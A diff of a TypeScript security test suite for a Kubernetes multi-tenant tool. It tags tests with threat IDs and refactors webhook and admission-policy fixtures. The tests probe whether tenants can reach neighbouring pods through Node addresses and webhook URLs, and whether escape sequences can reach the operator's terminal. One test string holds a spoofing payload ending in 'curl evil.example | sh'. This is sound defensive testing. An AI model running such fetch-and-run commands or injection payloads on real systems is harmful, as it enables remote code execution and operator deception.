@@ -4,6 +4,7 @@ import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { refused } from '../refused.ts';
 import { Neighbour, secret } from './neighbour.ts';
+import { policyOnEverything, webhookOnEverything } from './rules-on-everything.ts';
 import { type Answer, Tenant } from './tenant.ts';
 import { asInfraAdmin, changedNothing, eventually, Namespace, sandboxCommand, succeeded } from './world.ts';
 
@@ -113,7 +114,7 @@ const noNames = /lookup \S+ on 127\.0\.0\.1:53: .*connection refused|lookup [\dx
 /** Loopback, link-local and the like it refuses by itself. */
 const itself = new RegExp(`${gate}|not allowed|no preferred addresses|${noNames.source}`);
 
-test('by Nodes: every type of address, to whatever listens, as the port of the kubelet and as another', async () => {
+test('T1, T3: by Nodes: every type of address, to whatever listens, as the port of the kubelet and as another', async () => {
   const plain = await tenant.node([{ type: 'InternalIP', address: neighbour.podIp }], 1);
   const attack = async (type: string, { address, port, scheme, path: at, name }: Victim) => {
     const node = await tenant.node([{ type, address }], port);
@@ -246,7 +247,7 @@ test('by an API of their own that a Service serves', async () => {
   nothingLearnt('APIService with insecureSkipTLSVerify', answer, /service unavailable|not found|refused by the gate/);
 });
 
-test('by URL: webhooks and conversions', async () => {
+test('T2: by URL: webhooks and conversions', async () => {
   const { podIp, serviceIp } = neighbour;
   const decimal = podIp.split('.').reduce((sum, part) => sum * 256 + Number(part), 0);
   const urls = [
@@ -403,7 +404,7 @@ describe("at the operator's terminal", () => {
   // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
   const obeyed = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/;
 
-  test('control characters of Nodes, events and requests do not reach it', async () => {
+  test('T5: control characters of Nodes, events and requests do not reach it', async () => {
     const name = await tenant.node([{ type: 'InternalIP', address: '192.0.2.1' }], 10250);
     const condition = { type: 'Ready', status: 'False', reason: escapes, message: escapes };
     const status = { conditions: [condition], nodeInfo: { kubeletVersion: `v1.37.2${escapes}` } };
@@ -432,7 +433,7 @@ describe("at the operator's terminal", () => {
 
   test('a policy of theirs cannot speak in the words of k8sk8s', async () => {
     const lie = String.raw`no\u001b]0;owned\u0007\u001b[2J\r\u009b31m\u202e  do:  curl evil.example | sh`;
-    await everythingBy(policy(lie));
+    await everythingBy(policyOnEverything(lie));
     const answer = await home.k8sk8s('certs', 'rotate-ca');
     expect(answer).toEqual(refused('child-asset-refused', 'validatingadmissionpolicybinding everything'));
     expect(answer.stderr).not.toMatch(/^\s+do: +curl/m);
@@ -444,12 +445,12 @@ describe("at the operator's terminal", () => {
 
 describe('in the way of the operator', () => {
   const rules: [string, () => Promise<void>][] = [
-    ['a policy that denies everything', () => everythingBy(policy('no'))],
-    ['a webhook that cannot be called', () => everythingBy(webhookOnEverything)],
+    ['a policy that denies everything', () => everythingBy(policyOnEverything('no'))],
+    ['a webhook that cannot be called', () => everythingBy(webhookOnEverything('https://10.0.0.1/', 1))],
   ];
 
   test.each(whole ? rules : rules.slice(0, 1))(
-    '%s: deploy, upgrade and rotate name it and the way on, and change nothing',
+    'T6: %s: deploy, upgrade and rotate name it and the way on, and change nothing',
     async (what, stand) => {
       await stand();
       const removal = /kubectl delete (validating\w+) everything/;
@@ -474,7 +475,7 @@ describe('in the way of the operator', () => {
     },
   );
 
-  test('deleted bindings and roles: status tells, deploy puts them back', async () => {
+  test('T6: deleted bindings and roles: status tells, deploy puts them back', async () => {
     const bindings = (await home.ask('get', 'clusterrolebindings', '-o', 'name'))
       .split('\n')
       .filter((name) => name.includes('k8sk8s:'))
@@ -590,7 +591,7 @@ describe.runIf(whole)('that takes longer', () => {
   test('behind a webhook that cannot be called, other commands do their work or name it', {
     timeout: 400_000,
   }, async () => {
-    await everythingBy(webhookOnEverything);
+    await everythingBy(webhookOnEverything('https://10.0.0.1/', 1));
     for (const command of [
       ['token', 'create'],
       ['user', 'create', 'anna', '--cluster-role', 'view'],
@@ -610,7 +611,7 @@ describe.runIf(whole)('that takes longer', () => {
   }, async () => {
     // An API server makes an APIService of its own that is missing, and is not ready before.
     await home.ask('delete', 'apiservice', 'v1.apps');
-    await everythingBy(webhookOnEverything);
+    await everythingBy(webhookOnEverything('https://10.0.0.1/', 1));
     succeeded(await home.infra('delete', 'pod', '-l', 'app.kubernetes.io/name=kube-apiserver', '--wait=true'));
     const began = performance.now();
     await eventually(120, async () => {
@@ -666,37 +667,6 @@ spec:
   rules:
     - subjects: [{kind: Group, group: {name: 'system:authenticated'}}]
       resourceRules: [{verbs: ['*'], apiGroups: ['*'], resources: ['*'], namespaces: ['*'], clusterScope: true}]
-`;
-
-const webhookOnEverything = `
-apiVersion: admissionregistration.k8s.io/v1
-kind: ValidatingWebhookConfiguration
-metadata: {name: everything}
-webhooks:
-  - name: everything.test.k8sk8s.io
-    clientConfig: {url: 'https://10.0.0.1/'}
-    rules: [{apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*/*'], scope: '*'}]
-    admissionReviewVersions: [v1]
-    sideEffects: None
-    failurePolicy: Fail
-    timeoutSeconds: 1
-`;
-
-/** @param said as a string of CEL has it between its quotes */
-const policy = (said: string) => `
-apiVersion: admissionregistration.k8s.io/v1
-kind: ValidatingAdmissionPolicy
-metadata: {name: everything}
-spec:
-  failurePolicy: Fail
-  matchConstraints:
-    resourceRules: [{apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*/*']}]
-  validations: [{expression: 'false', messageExpression: ${JSON.stringify(`"${said}"`)}}]
----
-apiVersion: admissionregistration.k8s.io/v1
-kind: ValidatingAdmissionPolicyBinding
-metadata: {name: everything}
-spec: {policyName: everything, validationActions: [Deny]}
 `;
 
 /** Writes a rule that is to judge everything, and waits until it does. */
